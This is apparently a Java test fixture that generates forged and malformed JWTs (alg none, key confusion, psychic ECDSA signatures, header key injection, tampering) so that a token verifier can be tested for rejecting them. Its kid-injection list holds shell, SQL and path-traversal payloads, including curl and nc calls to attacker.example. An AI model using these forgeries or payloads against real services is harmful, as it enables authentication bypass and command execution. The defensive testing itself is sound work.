package dev.labauth.core.testing;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64URL;
import dev.labauth.core.verify.Reason;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * The attack classes of RFC 8725, the OWASP JWT cheat sheet and the tools attackers use (jwt_tool's
 * tamper and exploit modes, the key-confusion and psychic-signature write-ups), each with several
 * variants, as tokens against one tenant: issuer {@link Jwt#ISSUER}, audience {@link Jwt#API}, keys
 * {@link #published()}, algorithms RS256 and ES256, judged at {@link Jwt#NOW}.
 *
 * <p>Each variant names the reason the verifier must give. {@code expected} is the reason with ES256
 * enabled ({@link #ENVIRONMENT}); {@code expectedRs256Only} with the default allow-list. None of them is
 * ever allowed, and none is our own failure.
 */
public final class Attacks {
    public static final RSAKey ISSUER_KEY = TestKeys.rsa("k1");
    public static final ECKey ISSUER_EC_KEY = TestKeys.ec("ec1");
    public static final RSAKey ATTACKER = TestKeys.rsa("attacker");
    public static final RSAKey WEAK_1024 = TestKeys.rsaOfSize("weak-1024", 1024);
    /** A published RSA key whose public exponent is 1: the signature is the padded hash itself. */
    public static final RSAKey EXPONENT_ONE = new RSAKey.Builder(TestKeys.rsa("e1-modulus").getModulus(),
            Base64URL.encode(BigInteger.ONE)).keyID("weak-e1").build();

    /** The tenant's configuration: the field cases' tenant and API, ES256 enabled next to RS256. */
    public static final Map<String, String> ENVIRONMENT = Map.of("AUTH0_DOMAIN", Jwt.TENANT, "AUTH0_AUDIENCE", Jwt.API,
            "AUTH0_ALGORITHMS", "RS256,ES256");
    /** The same tenant with the default allow-list (RS256 only). */
    public static final Map<String, String> ENVIRONMENT_RS256_ONLY =
            Map.of("AUTH0_DOMAIN", Jwt.TENANT, "AUTH0_AUDIENCE", Jwt.API);

    /** P-256's group order n and field prime p, big-endian, 32 bytes each. */
    static final BigInteger P256_N = new BigInteger("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16);
    static final BigInteger P256_P = new BigInteger("FFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF", 16);

    public record Attack(String attackClass, String variant, String token, Reason expected, Reason expectedRs256Only) {
        @Override
        public String toString() {
            return attackClass + ": " + variant;
        }
    }

    private final List<Attack> list = new ArrayList<>();

    private Attacks() {
    }

    /** The issuer's key set: its RSA and EC keys, and two keys no verifier should use. */
    public static JWKSet published() {
        return new JWKSet(List.<JWK>of(ISSUER_KEY.toPublicJWK(), ISSUER_EC_KEY.toPublicJWK(),
                WEAK_1024.toPublicJWK(), EXPONENT_ONE));
    }

    /** A genuine user token, the starting point of most forgeries. */
    public static Jwt genuine() {
        return Jwt.auth0User("k1");
    }

    public static String genuineToken() {
        return genuine().signedRs256(ISSUER_KEY);
    }

    public static List<Attack> all() {
        Attacks a = new Attacks();
        a.algNone();
        a.hmacKeyedWithThePublicKey();
        a.signatureStrippingAndTruncation();
        a.keyCarriedInTheHeader();
        a.kidInjection();
        a.critical();
        a.psychicEcdsa();
        a.algorithmKeyMismatch();
        a.jweAndJsonSerialisations();
        a.duplicateJsonKeys();
        a.nestedOrHugeJson();
        a.encoding();
        a.oversize();
        a.weakPublishedKeys();
        a.tampering();
        return List.copyOf(a.list);
    }

    private void add(String attackClass, String variant, String token, Reason expected) {
        list.add(new Attack(attackClass, variant, token, expected, expected));
    }

    /** Reached only with ES256 allowed; with RS256 alone the algorithm is refused first. */
    private void addEs(String attackClass, String variant, String token, Reason expected) {
        list.add(new Attack(attackClass, variant, token, expected, Reason.ALG_NOT_ALLOWED));
    }

    // --- the classes ---

    private void algNone() {
        String c = "alg none";
        for (String alg : List.of("none", "None", "NONE", "nOnE", "none ", "nonE", "none\u0000")) {
            Jwt jwt = genuine().header("alg", alg);
            String name = alg.replace("\u0000", "\\0");
            add(c, "'" + name + "', empty signature", jwt.withSignatureSegment(""), Reason.ALG_NOT_ALLOWED);
            add(c, "'" + name + "', the issuer's real signature", jwt.signedRs256(ISSUER_KEY), Reason.ALG_NOT_ALLOWED);
            add(c, "'" + name + "', junk signature", jwt.withSignatureSegment("c2lnbmF0dXJl"), Reason.ALG_NOT_ALLOWED);
        }
        add(c, "none, no kid, no typ", Jwt.auth0User("k1").header("kid", null).header("typ", null)
                .header("alg", "none").withSignatureSegment(""), Reason.ALG_NOT_ALLOWED);
    }

    private void hmacKeyedWithThePublicKey() {
        String c = "HMAC keyed with the RSA public key";
        byte[] der = spki(ISSUER_KEY);
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII)).encodeToString(der)
                + "\n-----END PUBLIC KEY-----";
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("PEM", (pem + "\n").getBytes(StandardCharsets.US_ASCII));
        secrets.put("PEM without final newline", pem.getBytes(StandardCharsets.US_ASCII));
        secrets.put("DER (SubjectPublicKeyInfo)", der);
        secrets.put("JWK JSON", ISSUER_KEY.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8));
        secrets.put("modulus bytes", ISSUER_KEY.getModulus().decode());
        for (Map.Entry<String, byte[]> secret : secrets.entrySet()) {
            for (String alg : List.of("HS256", "HS384", "HS512")) {
                String token = genuine().header("alg", alg).signedHmac("HmacSHA" + alg.substring(2), secret.getValue());
                add(c, alg + " keyed with the " + secret.getKey(), token, Reason.ALG_NOT_ALLOWED);
            }
        }
    }

    private void signatureStrippingAndTruncation() {
        String c = "signature stripping and truncation";
        String[] s = Jwt.segments(genuineToken());
        byte[] sig = Base64URL.from(s[2]).decode();
        String input = s[0] + "." + s[1];
        add(c, "signature removed, dot kept", input + ".", Reason.MALFORMED);
        add(c, "signature and its dot removed", input, Reason.MALFORMED);
        add(c, "last 3 bytes cut", input + "." + Base64URL.encode(Arrays.copyOf(sig, 253)), Reason.BAD_SIGNATURE);
        add(c, "last byte cut", input + "." + Base64URL.encode(Arrays.copyOf(sig, 255)), Reason.BAD_SIGNATURE);
        add(c, "half the signature", input + "." + Base64URL.encode(Arrays.copyOf(sig, 128)), Reason.BAD_SIGNATURE);
        add(c, "one byte", input + "." + Base64URL.encode(new byte[] {sig[0]}), Reason.BAD_SIGNATURE);
        add(c, "a zero byte prepended (257 bytes)", input + "." + Base64URL.encode(concat(new byte[1], sig)),
                Reason.BAD_SIGNATURE);
        add(c, "256 zero bytes", input + "." + Base64URL.encode(new byte[256]), Reason.BAD_SIGNATURE);
        add(c, "the modulus as signature", input + "." + ISSUER_KEY.getModulus(), Reason.BAD_SIGNATURE);
        add(c, "the signature of another token", input + "."
                + Jwt.segments(Jwt.auth0Machine("k1").signedRs256(ISSUER_KEY))[2], Reason.BAD_SIGNATURE);
    }

    private void keyCarriedInTheHeader() {
        String c = "key or key location in the header (jwk, jku, x5u, x5c)";
        Map<String, Object> attackerJwk = ATTACKER.toPublicJWK().toJSONObject();
        String x5c = Base64.getEncoder().encodeToString(spki(ATTACKER));
        add(c, "embedded jwk, issuer's kid", genuine().header("jwk", attackerJwk).signedRs256(ATTACKER), Reason.BAD_SIGNATURE);
        add(c, "embedded jwk, its own kid", Jwt.auth0User("attacker").header("jwk", attackerJwk).signedRs256(ATTACKER),
                Reason.UNKNOWN_KEY);
        add(c, "embedded jwk, no kid", genuine().header("kid", null).header("jwk", attackerJwk).signedRs256(ATTACKER),
                Reason.BAD_SIGNATURE);
        add(c, "jku to the attacker's set", genuine().header("jku", "https://attacker.example/jwks.json")
                .signedRs256(ATTACKER), Reason.BAD_SIGNATURE);
        add(c, "jku on the issuer's own host", genuine().header("jku", Jwt.ISSUER + ".well-known/jwks.json?x=https://attacker.example/")
                .signedRs256(ATTACKER), Reason.BAD_SIGNATURE);
        add(c, "x5u to the attacker's certificate", genuine().header("x5u", "https://attacker.example/cert.pem")
                .signedRs256(ATTACKER), Reason.BAD_SIGNATURE);
        add(c, "x5c with the attacker's key", genuine().header("x5c", List.of(x5c)).signedRs256(ATTACKER),
                Reason.BAD_SIGNATURE);
        add(c, "x5t of the attacker's key", genuine().header("x5t#S256", Base64URL.encode(sha256(spki(ATTACKER))).toString())
                .signedRs256(ATTACKER), Reason.BAD_SIGNATURE);
        add(c, "all of them at once, attacker's kid", Jwt.auth0User("attacker").header("jwk", attackerJwk)
                .header("jku", "https://attacker.example/jwks.json").header("x5u", "https://attacker.example/c.pem")
                .header("x5c", List.of(x5c)).signedRs256(ATTACKER), Reason.UNKNOWN_KEY);
        add(c, "embedded EC jwk, ES256", Jwt.auth0User("ec1").header("alg", "ES256")
                .header("jwk", TestKeys.ec("attacker-ec").toPublicJWK().toJSONObject())
                .signedEs256(TestKeys.ec("attacker-ec")), Reason.BAD_SIGNATURE);
        list.set(list.size() - 1, new Attack(c, "embedded EC jwk, ES256", list.get(list.size() - 1).token(),
                Reason.BAD_SIGNATURE, Reason.ALG_NOT_ALLOWED));
    }

    private void kidInjection() {
        String c = "kid injection";
        for (String kid : List.of("../../../../../../dev/null", "/etc/passwd", "file:///etc/passwd",
                "' OR '1'='1", "k1' -- ", "k1\"; DROP TABLE keys; --", "$(curl https://attacker.example)", "`id`",
                "| nc attacker.example 4444", "k1\u0000", "k1 ", " k1", "K1", "k1\n", "", "%6b1", "k1/../k1",
                "x".repeat(4_000))) {
            String shown = kid.length() > 40 ? kid.length() + " characters" : kid;
            add(c, "kid " + shown.replace("\n", "\\n").replace("\u0000", "\\0"), Jwt.auth0User(kid).signedRs256(ISSUER_KEY),
                    Reason.UNKNOWN_KEY);
        }
        for (Object kid : List.<Object>of(7, true, List.of("k1"), Map.of("kid", "k1"), 1.5)) {
            add(c, "kid of JSON type " + kid.getClass().getSimpleName(), genuine().header("kid", kid).signedRs256(ISSUER_KEY),
                    Reason.MALFORMED);
        }
    }

    private void critical() {
        String c = "crit with names not understood";
        add(c, "crit [unknown extension]", genuine().header("crit", List.of("https://attacker.example/ext"))
                .header("https://attacker.example/ext", true).signedRs256(ISSUER_KEY), Reason.MALFORMED);
        add(c, "crit [exp]", genuine().header("crit", List.of("exp")).header("exp", 1).signedRs256(ISSUER_KEY),
                Reason.MALFORMED);
        add(c, "crit [b64], b64 false", genuine().header("crit", List.of("b64")).header("b64", false)
                .signedRs256(ISSUER_KEY), Reason.MALFORMED);
        add(c, "crit [alg] (a registered name)", genuine().header("crit", List.of("alg")).signedRs256(ISSUER_KEY),
                Reason.MALFORMED);
        add(c, "crit naming an absent parameter", genuine().header("crit", List.of("nowhere")).signedRs256(ISSUER_KEY),
                Reason.MALFORMED);
        add(c, "crit as a string", genuine().header("crit", "exp").signedRs256(ISSUER_KEY), Reason.MALFORMED);
        add(c, "crit with a number", genuine().header("crit", List.of(1)).signedRs256(ISSUER_KEY), Reason.MALFORMED);
        add(c, "crit, forged signature", genuine().header("crit", List.of("x")).header("x", 1).signedRs256(ATTACKER),
                Reason.MALFORMED);
    }

    private void psychicEcdsa() {
        String c = "ES256 psychic signatures (CVE-2022-21449) and out-of-range r, s";
        Jwt jwt = Jwt.auth0User("ec1").header("alg", "ES256");
        byte[] real = Base64URL.from(Jwt.segments(jwt.signedEs256(ISSUER_EC_KEY))[2]).decode();
        BigInteger r = new BigInteger(1, Arrays.copyOfRange(real, 0, 32));
        BigInteger s = new BigInteger(1, Arrays.copyOfRange(real, 32, 64));
        Map<String, BigInteger[]> rs = new LinkedHashMap<>();
        rs.put("r = s = 0", new BigInteger[] {BigInteger.ZERO, BigInteger.ZERO});
        rs.put("r = 0, s real", new BigInteger[] {BigInteger.ZERO, s});
        rs.put("r real, s = 0", new BigInteger[] {r, BigInteger.ZERO});
        rs.put("r = s = n", new BigInteger[] {P256_N, P256_N});
        rs.put("r = n, s real", new BigInteger[] {P256_N, s});
        rs.put("r real, s = n", new BigInteger[] {r, P256_N});
        rs.put("r = s = n + 1", new BigInteger[] {P256_N.add(BigInteger.ONE), P256_N.add(BigInteger.ONE)});
        rs.put("r = s = p (field prime)", new BigInteger[] {P256_P, P256_P});
        rs.put("r = s = 2^256 - 1", new BigInteger[] {BigInteger.TWO.pow(256).subtract(BigInteger.ONE),
                BigInteger.TWO.pow(256).subtract(BigInteger.ONE)});
        rs.put("r = s = 1", new BigInteger[] {BigInteger.ONE, BigInteger.ONE});
        rs.put("r real, s real - n (wraps below 0 as bytes)", new BigInteger[] {r, s.add(P256_N).mod(BigInteger.TWO.pow(256))});
        for (Map.Entry<String, BigInteger[]> e : rs.entrySet()) {
            addEs(c, e.getKey(), jwt.withSignatureSegment(Base64URL.encode(concat(fixed32(e.getValue()[0]),
                    fixed32(e.getValue()[1]))).toString()), Reason.BAD_SIGNATURE);
        }
        addEs(c, "r = s = 0 in DER (MAYCAQACAQA)", jwt.withSignatureSegment("MAYCAQACAQA"), Reason.BAD_SIGNATURE);
        addEs(c, "the real signature in DER", jwt.withSignatureSegment(Base64URL.encode(der(r, s)).toString()),
                Reason.BAD_SIGNATURE);
        addEs(c, "63 bytes", jwt.withSignatureSegment(Base64URL.encode(Arrays.copyOf(real, 63)).toString()),
                Reason.BAD_SIGNATURE);
        addEs(c, "65 bytes", jwt.withSignatureSegment(Base64URL.encode(concat(real, new byte[1])).toString()),
                Reason.BAD_SIGNATURE);
        addEs(c, "132 bytes (the ES512 size)", jwt.withSignatureSegment(Base64URL.encode(new byte[132]).toString()),
                Reason.BAD_SIGNATURE);
    }

    private void algorithmKeyMismatch() {
        String c = "algorithm / key type mismatch";
        add(c, "RS256 naming the EC key", Jwt.auth0User("ec1").signedRs256(ISSUER_KEY), Reason.UNKNOWN_KEY);
        addEs(c, "ES256 naming the RSA key", Jwt.auth0User("k1").header("alg", "ES256").signedEs256(ISSUER_EC_KEY),
                Reason.UNKNOWN_KEY);
        addEs(c, "ES256 header, RS256 signature by the RSA key", Jwt.auth0User("ec1").header("alg", "ES256")
                .signedRs256(ISSUER_KEY), Reason.BAD_SIGNATURE);
        add(c, "RS256 header, ES256 signature by the EC key, no kid", genuine().header("kid", null)
                .signedEs256(ISSUER_EC_KEY), Reason.BAD_SIGNATURE);
        add(c, "RS256 header, PS256 signature by the RSA key", genuine().signedPs256(ISSUER_KEY), Reason.BAD_SIGNATURE);
        for (String alg : List.of("PS256", "RS384", "RS512", "ES384", "ES512", "EdDSA", "ES256K", "Ed25519", "RSA-OAEP")) {
            add(c, alg + " (not allowed) under the RSA key", genuine().header("alg", alg).signedRs256(ISSUER_KEY),
                    Reason.ALG_NOT_ALLOWED);
        }
    }

    private void jweAndJsonSerialisations() {
        String c = "JWE and JWS JSON serialisations";
        String[] s = Jwt.segments(genuineToken());
        String jweTail = ".ZW5jcnlwdGVkLWtleQ.aXYtaXYtaXYtaXY.Y2lwaGVydGV4dC1jaXBoZXJ0ZXh0.dGFnLXRhZy10YWctdGFn";
        add(c, "JWE alg dir, A256GCM", Jwt.b64("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}") + "." + jweTail.substring(1 + 18),
                Reason.OPAQUE_TOKEN);
        add(c, "JWE RSA-OAEP-256 to the issuer's key id", Jwt.b64("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A128GCM\",\"kid\":\"k1\"}")
                + jweTail, Reason.OPAQUE_TOKEN);
        add(c, "five segments, no enc", s[0] + "." + s[1] + "." + s[2] + ".YQ.YQ", Reason.MALFORMED);
        add(c, "four segments", s[0] + "." + s[1] + "." + s[2] + ".YQ", Reason.MALFORMED);
        add(c, "six segments", s[0] + "." + s[1] + "." + s[2] + ".YQ.YQ.YQ", Reason.MALFORMED);
        add(c, "flattened JSON serialisation of a genuine token",
                "{\"protected\":\"" + s[0] + "\",\"payload\":\"" + s[1] + "\",\"signature\":\"" + s[2] + "\"}",
                Reason.MALFORMED);
        add(c, "general JSON serialisation of a genuine token", "{\"payload\":\"" + s[1] + "\",\"signatures\":[{\"protected\":\""
                + s[0] + "\",\"signature\":\"" + s[2] + "\"}]}", Reason.MALFORMED);
        add(c, "JSON serialisation with an unprotected alg none", "{\"payload\":\"" + s[1]
                + "\",\"header\":{\"alg\":\"none\"},\"signature\":\"\"}", Reason.MALFORMED);
        add(c, "JWE JSON serialisation", "{\"protected\":\"" + Jwt.b64("{\"enc\":\"A256GCM\"}")
                + "\",\"recipients\":[{\"header\":{\"alg\":\"dir\"}}],\"iv\":\"aXY\",\"ciphertext\":\"Yw\",\"tag\":\"dA\"}",
                Reason.MALFORMED);
    }

    private void duplicateJsonKeys() {
        String c = "duplicate JSON keys";
        String claims = genuine().claimsJson().substring(1);
        String header = "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"k1\"}";
        add(c, "header alg none then RS256", Jwt.rawRs256(Jwt.b64("{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":\"k1\"}"),
                Jwt.b64(genuine().claimsJson()), ISSUER_KEY), Reason.MALFORMED);
        add(c, "header kid twice", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"attacker\",\"kid\":\"k1\"}"),
                Jwt.b64(genuine().claimsJson()), ISSUER_KEY), Reason.MALFORMED);
        add(c, "header alg twice, one escaped", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"\\u0061lg\":\"none\",\"kid\":\"k1\"}"),
                Jwt.b64(genuine().claimsJson()), ISSUER_KEY), Reason.MALFORMED);
        for (String dup : List.of("\"sub\":\"auth0|admin\"", "\"iss\":\"https://attacker.example/\"",
                "\"aud\":\"https://api.example.com\"", "\"exp\":99999999999", "\"permissions\":[\"admin:all\"]",
                "\"\\u0073ub\":\"auth0|admin\"")) {
            add(c, "claims with a second " + dup.substring(0, dup.indexOf(':')), Jwt.rawRs256(Jwt.b64(header),
                    Jwt.b64("{" + dup + "," + claims), ISSUER_KEY), Reason.MALFORMED);
        }
    }

    private void nestedOrHugeJson() {
        String c = "deeply nested or huge JSON";
        String deep17 = "[".repeat(16) + "]".repeat(16);
        add(c, "header nested 17 deep", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\",\"x\":" + deep17 + "}"),
                Jwt.b64(genuine().claimsJson()), ISSUER_KEY), Reason.MALFORMED);
        add(c, "header nested 2,000 deep", Jwt.b64("{\"alg\":\"RS256\",\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "}")
                + "." + Jwt.b64(genuine().claimsJson()) + ".c2ln", Reason.MALFORMED);
        add(c, "header nested 3,000 deep, never closed", Jwt.b64("{\"x\":" + "{\"a\":".repeat(1000)) + ".e30.c2ln",
                Reason.MALFORMED);
        add(c, "payload nested 17 deep, signed by the issuer", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}"),
                Jwt.b64("{\"x\":" + deep17 + "," + genuine().claimsJson().substring(1)), ISSUER_KEY), Reason.MALFORMED);
        add(c, "payload nested 2,500 deep", Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}") + "."
                + Jwt.b64("{\"x\":" + "[".repeat(2500) + "]".repeat(2500) + "}") + ".c2ln", Reason.MALFORMED);
        StringBuilder many = new StringBuilder("{");
        for (int i = 0; i < 400; i++) {
            many.append("\"c").append(i).append("\":").append(i).append(',');
        }
        add(c, "400 claims", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}"),
                Jwt.b64(many + genuine().claimsJson().substring(1)), ATTACKER), Reason.BAD_SIGNATURE);
        add(c, "a 4,000-digit exp", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}"),
                Jwt.b64("{\"iss\":\"" + Jwt.ISSUER + "\",\"exp\":" + "9".repeat(4000) + "}"), ATTACKER), Reason.MALFORMED);
        add(c, "a number 1e999999", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}"),
                Jwt.b64("{\"iss\":\"" + Jwt.ISSUER + "\",\"exp\":1e999999}"), ATTACKER), Reason.MALFORMED);
        add(c, "a 5,000-character string of escapes", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}"),
                Jwt.b64("{\"iss\":\"" + Jwt.ISSUER + "\",\"x\":\"" + "\\u0000".repeat(800) + "\"}"), ATTACKER),
                Reason.BAD_SIGNATURE);
        add(c, "a lone surrogate", Jwt.rawRs256(Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}"),
                Jwt.b64("{\"iss\":\"" + Jwt.ISSUER + "\",\"sub\":\"\\ud800\"}"), ATTACKER), Reason.BAD_SIGNATURE);
        add(c, "header that is a JSON array", Jwt.b64("[\"RS256\"]") + "." + Jwt.b64(genuine().claimsJson()) + ".c2ln",
                Reason.MALFORMED);
        add(c, "header that is JSON with a comment", Jwt.b64("{\"alg\":\"RS256\"/*x*/}") + ".e30.c2ln", Reason.MALFORMED);
        add(c, "header with trailing garbage", Jwt.b64("{\"alg\":\"RS256\",\"kid\":\"k1\"}{}") + ".e30.c2ln",
                Reason.MALFORMED);
    }

    private void encoding() {
        String c = "non-base64url characters, padding, whitespace";
        String token = genuineToken();
        String[] s = Jwt.segments(token);
        add(c, "signature padded with =", token + "=", Reason.MALFORMED);
        add(c, "signature padded with ==", token + "==", Reason.MALFORMED);
        add(c, "header padded", s[0] + "==." + s[1] + "." + s[2], Reason.MALFORMED);
        add(c, "payload padded", s[0] + "." + s[1] + "==." + s[2], Reason.MALFORMED);
        char last = s[2].charAt(s[2].length() - 1);
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        add(c, "stray low bits in the signature's last character", s[0] + "." + s[1] + "."
                + s[2].substring(0, s[2].length() - 1) + alphabet.charAt(alphabet.indexOf(last) | 1), Reason.MALFORMED);
        // A payload in standard base64 ('+' and '/'), signed over exactly those characters by the issuer's key.
        String stdPayload = Base64.getEncoder().withoutPadding().encodeToString(
                (genuine().claimsJson().replace("}", ",\"x\":\">>>>>>??????\"}")).getBytes(StandardCharsets.UTF_8));
        add(c, "payload in standard base64, signed as sent", Jwt.rawRs256(s[0], stdPayload, ISSUER_KEY), Reason.MALFORMED);
        for (String[] insert : new String[][] {{"space", " "}, {"tab", "\t"}, {"newline", "\n"}, {"CRLF", "\r\n"},
                {"NUL", "\u0000"}, {"percent-encoded dot", "%2E"}, {"asterisk", "*"}, {"non-breaking space", "\u00a0"}}) {
            add(c, insert[0] + " inside the payload", s[0] + "." + s[1].substring(0, 20) + insert[1] + s[1].substring(20)
                    + "." + s[2], Reason.MALFORMED);
        }
        add(c, "Cyrillic e in the header", s[0].replaceFirst("e", "\u0435") + "." + s[1] + "." + s[2], Reason.MALFORMED);
        add(c, "fullwidth dots", s[0] + "\uff0e" + s[1] + "\uff0e" + s[2], Reason.OPAQUE_TOKEN);
        add(c, "doubled dot", s[0] + ".." + s[1] + "." + s[2], Reason.MALFORMED);
        add(c, "leading dot", "." + token, Reason.MALFORMED);
    }

    private void oversize() {
        String c = "oversize tokens";
        add(c, "100 KB, well-formed, forged", genuine().claim("padding", "x".repeat(100_000)).signedRs256(ATTACKER),
                Reason.TOKEN_TOO_LARGE);
        add(c, "100 KB of one letter", "A".repeat(100 * 1024), Reason.TOKEN_TOO_LARGE);
        add(c, "100 KB of dots", ".".repeat(100 * 1024), Reason.TOKEN_TOO_LARGE);
        add(c, "1 MB, three segments", "a".repeat(400_000) + "." + "b".repeat(400_000) + "." + "c".repeat(248_576),
                Reason.TOKEN_TOO_LARGE);
        add(c, "one byte over the 8 KiB default", "e".repeat(8 * 1024 + 1), Reason.TOKEN_TOO_LARGE);
    }

    private void weakPublishedKeys() {
        String c = "weak keys in the issuer's key set";
        Jwt e1 = Jwt.auth0User("weak-e1");
        add(c, "e = 1: the padded hash is the signature, no private key needed", e1.withSignatureSegment(
                Base64URL.encode(pkcs1Sha256(e1.signingInput().getBytes(StandardCharsets.US_ASCII), 256)).toString()),
                Reason.UNKNOWN_KEY);
        add(c, "1024-bit key, correctly signed", Jwt.auth0User("weak-1024").signedRs256(WEAK_1024), Reason.UNKNOWN_KEY);
        add(c, "1024-bit key, no kid (every RSA key tried)", Jwt.auth0User("weak-1024").header("kid", null)
                .signedRs256(WEAK_1024), Reason.BAD_SIGNATURE);
    }

    private void tampering() {
        String c = "payload and header tampering";
        String[] s = Jwt.segments(genuineToken());
        for (Map.Entry<String, Object> edit : Map.<String, Object>of("sub", "auth0|admin", "permissions",
                List.of("admin:all"), "exp", Jwt.NOW.getEpochSecond() + 86_400 * 365, "aud", "https://api.other.example",
                "iss", "https://tenant.eu.auth0.com").entrySet()) {
            add(c, "claim " + edit.getKey() + " changed, signature kept", s[0] + "."
                    + Jwt.b64(genuine().claim(edit.getKey(), edit.getValue()).claimsJson()) + "." + s[2], Reason.BAD_SIGNATURE);
        }
        add(c, "typ removed from the header, signature kept", Jwt.b64(Jwt.auth0User("k1").header("typ", null).headerJson())
                + "." + s[1] + "." + s[2], Reason.BAD_SIGNATURE);
        String[] m = Jwt.segments(Jwt.auth0Machine("k1").signedRs256(ISSUER_KEY));
        add(c, "payload of another genuine token", s[0] + "." + m[1] + "." + s[2], Reason.BAD_SIGNATURE);
        add(c, "header and payload swapped", s[1] + "." + s[0] + "." + s[2], Reason.MALFORMED);
    }

    // --- building blocks ---

    private static byte[] spki(RSAKey key) {
        try {
            return key.toPublicKey().getEncoded();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] sha256(byte[] data) {
        try {
            return MessageDigest.getInstance("SHA-256").digest(data);
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** EMSA-PKCS1-v1_5 of SHA-256 over {@code input}, {@code k} bytes long (RFC 8017 §9.2). */
    static byte[] pkcs1Sha256(byte[] input, int k) {
        byte[] t = concat(HexFormat.of().parseHex("3031300d060960864801650304020105000420"), sha256(input));
        byte[] em = new byte[k];
        em[1] = 1;
        Arrays.fill(em, 2, k - t.length - 1, (byte) 0xFF);
        System.arraycopy(t, 0, em, k - t.length, t.length);
        return em;
    }

    static byte[] fixed32(BigInteger v) {
        byte[] raw = v.toByteArray();
        byte[] out = new byte[32];
        int n = Math.min(raw.length, 32);
        System.arraycopy(raw, raw.length - n, out, 32 - n, n);
        return out;
    }

    static byte[] der(BigInteger r, BigInteger s) {
        byte[] rb = r.toByteArray();
        byte[] sb = s.toByteArray();
        byte[] out = new byte[6 + rb.length + sb.length];
        out[0] = 0x30;
        out[1] = (byte) (4 + rb.length + sb.length);
        out[2] = 0x02;
        out[3] = (byte) rb.length;
        System.arraycopy(rb, 0, out, 4, rb.length);
        out[4 + rb.length] = 0x02;
        out[5 + rb.length] = (byte) sb.length;
        System.arraycopy(sb, 0, out, 6 + rb.length, sb.length);
        return out;
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
